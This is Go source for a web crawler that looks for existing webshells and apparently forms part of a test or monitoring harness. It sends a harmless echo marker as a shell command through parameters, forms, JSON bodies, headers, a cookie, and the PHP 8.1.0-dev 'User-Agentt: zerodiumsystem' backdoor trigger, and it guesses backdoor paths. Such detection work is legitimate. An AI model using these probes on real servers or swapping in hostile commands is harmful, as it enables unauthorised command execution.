package visit

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"path"
	"regexp"
	"slices"
	"strings"
	"time"
)

// Bounds of what is asked of one web server in one call.
const (
	browseLimit = 20 * time.Second
	maxPages    = 32 // paths and forms besides the first page
	maxMissed   = 3  // requests without an answer, until it is left alone
)

// parameters are what shells on web servers call the command that they take.
var parameters = []string{"cmd", "command", "c", "e", "exec", "execute", "q", "run", "shell", "x"}

// further are those that are tried where many do not end up in logs.
var further = []string{"query", "sh", "code", "eval", "system", "do", "payload", "input", "task", "pass"}

// headers are those in which commands come that are to stay out of logs. The
// last one is that of PHP 8.1.0-dev, whose source was tampered with in 2021.
var headers = []string{"Cmd", "X-Cmd", "X-Command", "X-Exec", "X-Shell", "X-Run"}

const tamperedPHP = "User-Agentt"

// guesses are where such shells are found when nothing leads to them. None may
// be the path of a known flaw: the guest may hand it on to others.
var guesses = []string{
	"/cmd", "/exec", "/run", "/command", "/api/cmd", "/api/exec", "/debug/exec", "/backdoor", "/shell.php", "/cmd.php", "/cgi-bin/cmd.cgi",
}

// greet gives orders at the first page of a web server.
func (v *Visitor) greet(ctx context.Context) {
	b := newBrowse(ctx, v)
	defer b.end()
	b.ask(http.MethodHead, "/", nil, "")
	b.order("/")
	if !b.over() {
		b.ask(http.MethodGet, "/", nil, "") // some serve something else the second time
	}
}

// explore looks around on a web server, and gives orders wherever it answers: at
// its first page, at what its answers lead to, at what is known otherwise, and at
// what is usual. It ends early when an order was obeyed. What was asked before is
// not asked again, but for the first page.
func (v *Visitor) explore(ctx context.Context) {
	b := newBrowse(ctx, v)
	defer b.end()
	b.ask(http.MethodGet, "/", nil, "")
	b.order("/")
	if v.asked == nil {
		v.asked = map[string]bool{"/": true}
		for _, list := range []string{"/robots.txt", "/sitemap.xml"} {
			v.asked[list] = true
			b.ask(http.MethodGet, list, nil, "")
		}
	}
	for range maxPages {
		if b.over() {
			return
		}
		if f, ok := b.nextForm(); ok {
			b.fill(f)
		} else if at, ok := b.nextPath(); ok {
			b.look(at)
		} else {
			return
		}
	}
}

// browse is one look around.
type browse struct {
	ctx    context.Context
	cancel context.CancelFunc
	v      *Visitor
	base   *url.URL
	line   *line    // nil: none is open
	links  []string // that answers led to
	forms  []form
	missed int
	obeyed *regexp.Regexp // what only a shell answers
	proved bool
}

func newBrowse(ctx context.Context, v *Visitor) *browse {
	ctx, cancel := context.WithTimeout(ctx, browseLimit)
	scheme := "http"
	if v.met == webTLS {
		scheme = "https"
	}
	return &browse{
		ctx: ctx, cancel: cancel, v: v, obeyed: regexp.MustCompile(regexp.QuoteMeta(v.Word) + `P\d+N\d+X1337`),
		base: &url.URL{Scheme: scheme, Host: v.host(), Path: "/"},
	}
}

func (b *browse) end() {
	b.hangUp()
	b.cancel()
}

// over tells whether there is no more to be asked.
func (b *browse) over() bool {
	return b.proved || b.missed >= maxMissed || b.ctx.Err() != nil || b.v.Obeyed != nil && b.v.Obeyed()
}

func (b *browse) nextForm() (form, bool) {
	for len(b.forms) > 0 {
		f := b.forms[0]
		b.forms = b.forms[1:]
		if b.fresh(f.String()) {
			return f, true
		}
	}
	return form{}, false
}

func (b *browse) nextPath() (string, bool) {
	for len(b.links) > 0 {
		at := b.links[0]
		b.links = b.links[1:]
		if name, _, _ := strings.Cut(at, "?"); b.fresh(name) {
			return at, true
		}
	}
	var more []string
	if b.v.Paths != nil {
		more = b.v.Paths()
	}
	for _, at := range append(more, guesses...) {
		if b.fresh(at) {
			return at, true
		}
	}
	return "", false
}

// fresh is true once for each key.
func (b *browse) fresh(key string) bool {
	if b.v.asked[key] {
		return false
	}
	b.v.asked[key] = true
	return true
}

// look asks for a path, and gives orders where something is.
func (b *browse) look(at string) {
	if absent(b.ask(http.MethodGet, at, nil, "")) {
		b.post(at, values(b.command(), parameters, further)) // some take nothing else
		return
	}
	b.order(at)
}

// order gives orders at a path, which may have a query, in all ways.
func (b *browse) order(at string) {
	join := "?"
	if strings.Contains(at, "?") {
		join = "&"
	}
	send := []func(){
		func() { b.ask(http.MethodGet, at+join+values(b.command(), parameters).Encode(), nil, "") },
		func() { b.post(at, values(b.command(), parameters, further)) },
		func() {
			object := map[string]string{}
			for name, value := range values(b.command(), parameters, further) {
				object[name] = value[0]
			}
			body, _ := json.Marshal(object) // of strings
			b.ask(http.MethodPost, at, body, "application/json")
		},
	}
	name, _, _ := strings.Cut(at, "?")
	if path.Ext(name) == ".php" { // there, many evaluate what they are sent
		send = append(send, func() { b.post(at, values(fmt.Sprintf("system('%s');", b.command()), parameters, further)) })
	}
	for _, request := range send {
		if b.over() {
			return
		}
		request()
	}
}

// fill sends a form with orders for what a person would write.
func (b *browse) fill(f form) {
	fields := url.Values{}
	command := b.command()
	for name, value := range f.fields {
		fields.Set(name, value)
		if value == "" {
			fields.Set(name, command)
		}
	}
	if f.post {
		b.post(f.target, fields)
		return
	}
	at, _, _ := strings.Cut(f.target, "?") // what was asked there is replaced: HTML, §4.10.22.3
	b.ask(http.MethodGet, at+"?"+fields.Encode(), nil, "")
}

func (b *browse) post(at string, fields url.Values) (status int) {
	return b.ask(http.MethodPost, at, []byte(fields.Encode()), "application/x-www-form-urlencoded")
}

// command is an order with a word of its own, so that it can be told which one
// was obeyed. Only a shell puts 1337 behind the word: the behaviour
// webshell-exec looks for both.
func (b *browse) command() string {
	b.v.ordered++
	return fmt.Sprintf("echo %sP%dN%dX$((191*7))", b.v.Word, b.v.Port, b.v.ordered)
}

func values(command string, names ...[]string) url.Values {
	fields := url.Values{}
	for _, name := range slices.Concat(names...) {
		fields.Set(name, command)
	}
	return fields
}

// absent tells whether there is nothing at a path, or not for such a request.
func absent(status int) bool {
	switch status {
	case 0, http.StatusNotFound, http.StatusGone, http.StatusMethodNotAllowed, http.StatusNotImplemented:
		return true
	}
	return false
}

// ask sends one request, with orders in its headers, and learns from the
// answer where else to ask. status is 0 when there was no answer.
func (b *browse) ask(method, at string, body []byte, kind string) (status int) {
	to, err := b.base.Parse(at)
	if err != nil || to.Host != b.base.Host {
		return 0
	}
	req, err := http.NewRequest(method, to.String(), bytes.NewReader(body))
	if err != nil {
		return 0
	}
	req.Header.Set("User-Agent", browser)
	req.Header.Set("Accept", "*/*")
	if kind != "" {
		req.Header.Set("Content-Type", kind)
	}
	if strings.Contains(at, b.v.Word) { // orders in headers come with those in a query
		command := b.command()
		for _, name := range headers {
			req.Header.Set(name, command)
		}
		req.Header.Set(tamperedPHP, fmt.Sprintf("zerodiumsystem('%s');", command))
		req.AddCookie(&http.Cookie{Name: "cmd", Value: url.PathEscape(command)})
	}
	resp, answer, err := b.exchange(req, body)
	if err != nil {
		b.missed++
		b.v.Log.Debug("no answer", "port", b.v.Port, "path", to.Path, "error", err)
		return 0
	}
	b.proved = b.proved || b.obeyed.Match(answer)
	links, forms := reveal(to, resp.Header, answer)
	b.links, b.forms = append(b.links, links...), append(b.forms, forms...)
	return resp.StatusCode
}
